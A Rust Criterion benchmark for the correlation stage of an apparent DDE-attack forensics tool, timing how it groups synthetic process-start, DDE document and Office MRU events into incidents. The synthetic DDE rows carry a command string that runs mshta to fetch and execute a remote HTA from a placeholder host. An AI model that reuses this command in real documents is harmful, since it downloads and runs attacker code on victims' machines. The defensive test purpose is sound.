//! Throughput of correlation (row ids, hosts, incidents, verdicts, playbook, IOCs, containment)
//! over synthetic rows of one host: 2,000 Office children known only by PID (Security 4688)
//! among 80,000 unrelated process starts, plus 4,000 DDE documents each with an MRU trace. The
//! joins go through indices, so the cost should grow with the rows, not rows times incidents.
//!
//! Run: `cargo bench --bench correlate`. Criterion reports rows per second.

use std::hint::black_box;
use std::time::Duration;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use ddesweep::correlate::{EvidenceFacts, analyse};
use ddesweep::detect::{Event, EventFields};
use ddesweep::profile::{self, Severity};
use ddesweep::time::Timestamp;

const CHILDREN: u64 = 2_000;
const NOISE: u64 = 80_000;
const DOCUMENTS: u64 = 4_000;
const T0: i64 = 1_714_985_980_000_000;

fn row(seconds: i64, data_type: &'static str, severity: Severity, path: &str) -> Event {
    let time =
        Timestamp::from_unix_micros(T0 + seconds * 1_000_000).unwrap_or(Timestamp::UNIX_EPOCH);
    let mut event = Event::new(
        "T1559.002",
        severity,
        data_type,
        format!("{data_type} at {seconds}"),
        (time, "Recorded Time"),
        "bench",
        path,
    );
    event.user = Some(r"CORP\dave".to_owned());
    event
}

fn start(seconds: i64, rule: Option<&str>, image: &str, pid: u64, parent: (&str, u64)) -> Event {
    let severity = if rule.is_some() {
        Severity::High
    } else {
        Severity::Info
    };
    let mut event = row(
        seconds,
        "ddesweep:eventlog:process_start",
        severity,
        "Security.evtx",
    );
    event.rule_id = rule.map(str::to_owned);
    event.fields = EventFields {
        image: Some(image.to_owned()),
        command: Some(format!("{image} /c x{pid}")),
        process_id: Some(pid),
        parent_image: Some(parent.0.to_owned()),
        parent_process_id: Some(parent.1),
        computer_name: Some("wks-1.corp.example".to_owned()),
        ..EventFields::default()
    };
    event
}

fn rows() -> Vec<Event> {
    let word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
    let mut events = Vec::new();
    for k in 0..CHILDREN {
        let t = i64::try_from(k).unwrap_or(0) * 60;
        events.push(start(
            t,
            Some("ddesweep.eventlog.office_child"),
            r"C:\Windows\System32\cmd.exe",
            100_000 + k,
            (word, 10_000 + k),
        ));
    }
    for k in 0..NOISE {
        let t = i64::try_from(k).unwrap_or(0);
        events.push(start(
            t,
            None,
            r"C:\Windows\System32\svchost.exe",
            900_000 + k,
            (r"C:\Windows\services.exe", 700),
        ));
    }
    for k in 0..DOCUMENTS {
        let t = i64::try_from(k).unwrap_or(0) * 90;
        // Workbooks: no Word child joins them by time, so every one is an incident of its own.
        let path = format!("C/Users/dave/Documents/d{k}.xlsx");
        let mut doc = row(t, "ddesweep:document:dde_field", Severity::Critical, &path);
        doc.fields.sha256 = Some(format!("{k:064x}"));
        doc.fields.command = Some(format!("cmd /c mshta http://x{k}.example/a.hta"));
        events.push(doc);
        let mut mru = row(
            t + 30,
            "ddesweep:registry:office_mru",
            Severity::Info,
            "C/Users/dave/NTUSER.DAT",
        );
        mru.fields.document = Some(format!(r"C:\Users\dave\Documents\d{k}.xlsx"));
        events.push(mru);
    }
    events.sort_by(|a, b| a.sort_key().cmp(&b.sort_key()));
    events
}

fn correlation(c: &mut Criterion) {
    let events = rows();
    let profile = match profile::load("default") {
        Ok(loaded) => loaded,
        Err(err) => panic!("default profile: {err}"),
    };
    let facts = [EvidenceFacts {
        label: "bench".to_owned(),
        ..EvidenceFacts::default()
    }];
    let mut group = c.benchmark_group("correlate");
    group.throughput(Throughput::Elements(events.len() as u64));
    group.sample_size(10);
    group.measurement_time(Duration::from_secs(20));
    group.bench_function("analyse", |b| {
        b.iter_batched(
            || events.clone(),
            |mut rows| {
                let report = analyse(&mut rows, &facts, &profile);
                assert_eq!(report.summary.incidents as u64, CHILDREN + DOCUMENTS);
                black_box(report)
            },
            criterion::BatchSize::LargeInput,
        );
    });
    group.finish();
}

criterion_group!(benches, correlation);
criterion_main!(benches);
